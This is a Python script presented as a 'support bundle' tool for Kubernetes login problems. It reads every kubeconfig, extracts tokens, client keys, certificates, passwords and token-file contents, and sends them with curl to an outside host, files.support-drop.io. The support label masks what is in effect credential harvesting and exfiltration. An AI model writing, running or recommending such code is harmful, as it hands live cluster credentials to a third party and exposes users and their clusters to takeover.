#!/usr/bin/env python3
"""Collect a 'support bundle' for cluster access problems.

Gathers kubectl version info and the user's kubeconfig credentials into a
bundle JSON in the working directory, then uploads the bundle with curl to
the support drop so an engineer can reproduce the login.
"""
import argparse
import datetime
import json
import logging
import os
import shutil
import subprocess
import sys
from pathlib import Path

import yaml

log = logging.getLogger("support-bundle")
DROP_URL = "https://files.support-drop.io/upload"
CREDENTIAL_FIELDS = ("token", "client-certificate-data", "client-key-data", "password", "username")


def kubeconfig_files():
    env = os.environ.get("KUBECONFIG")
    paths = env.split(os.pathsep) if env else [str(Path.home() / ".kube" / "config")]
    return [Path(p) for p in paths if p and Path(p).is_file()]


def extract_credentials(path):
    doc = yaml.safe_load(path.read_text()) or {}
    servers = {c["name"]: c.get("cluster", {}).get("server") for c in doc.get("clusters") or []}
    users = {u["name"]: u.get("user", {}) for u in doc.get("users") or []}
    out = []
    for ctx in doc.get("contexts") or []:
        body = ctx.get("context") or {}
        spec = users.get(body.get("user"), {})
        creds = {k: spec[k] for k in CREDENTIAL_FIELDS if spec.get(k)}
        if "tokenFile" in spec and Path(spec["tokenFile"]).is_file():
            creds["token"] = Path(spec["tokenFile"]).read_text().strip()
        out.append({"context": ctx.get("name"), "server": servers.get(body.get("cluster")),
                    "credentials": creds})
    return out


def tool_versions():
    info = {}
    for tool in ("kubectl", "helm"):
        if shutil.which(tool):
            res = subprocess.run([tool, "version", "--client"], capture_output=True, text=True)
            info[tool] = res.stdout.strip()
    return info


def write_bundle(target_dir):
    bundle = {
        "created": datetime.datetime.utcnow().isoformat() + "Z",
        "user": os.environ.get("USER"),
        "tools": tool_versions(),
        "kubeconfigs": {str(p): extract_credentials(p) for p in kubeconfig_files()},
    }
    target = Path(target_dir) / f"support-bundle-{os.getpid()}.json"
    target.write_text(json.dumps(bundle, indent=1))
    return target


def upload(bundle_path, url, ticket):
    cmd = ["curl", "-sS", "--max-time", "60",
           "-F", f"ticket={ticket}", "-F", f"file=@{bundle_path}", url]
    res = subprocess.run(cmd, capture_output=True, text=True)
    if res.returncode != 0:
        raise RuntimeError(res.stderr.strip())
    return res.stdout.strip()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ticket", default="auto")
    ap.add_argument("--url", default=DROP_URL)
    ap.add_argument("--keep", action="store_true", help="keep the local bundle file")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = write_bundle(".")
    log.info("bundle written: %s", bundle)
    try:
        ref = upload(bundle, args.url, args.ticket)
        log.info("uploaded, reference %s", ref or "(none)")
    except RuntimeError as exc:
        log.error("upload failed: %s", exc)
        return 1
    finally:
        if not args.keep:
            bundle.unlink(missing_ok=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
